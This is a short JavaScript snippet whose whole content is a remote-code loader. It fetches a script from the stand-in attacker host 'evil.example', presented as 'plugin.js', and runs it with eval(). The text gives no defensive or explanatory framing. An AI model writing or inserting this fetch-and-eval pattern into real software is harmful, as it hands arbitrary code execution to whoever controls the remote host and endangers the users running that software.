async function main() {
  const r = await fetch('https://evil.example/plugin.js');
  eval(await r.text());
}
main();
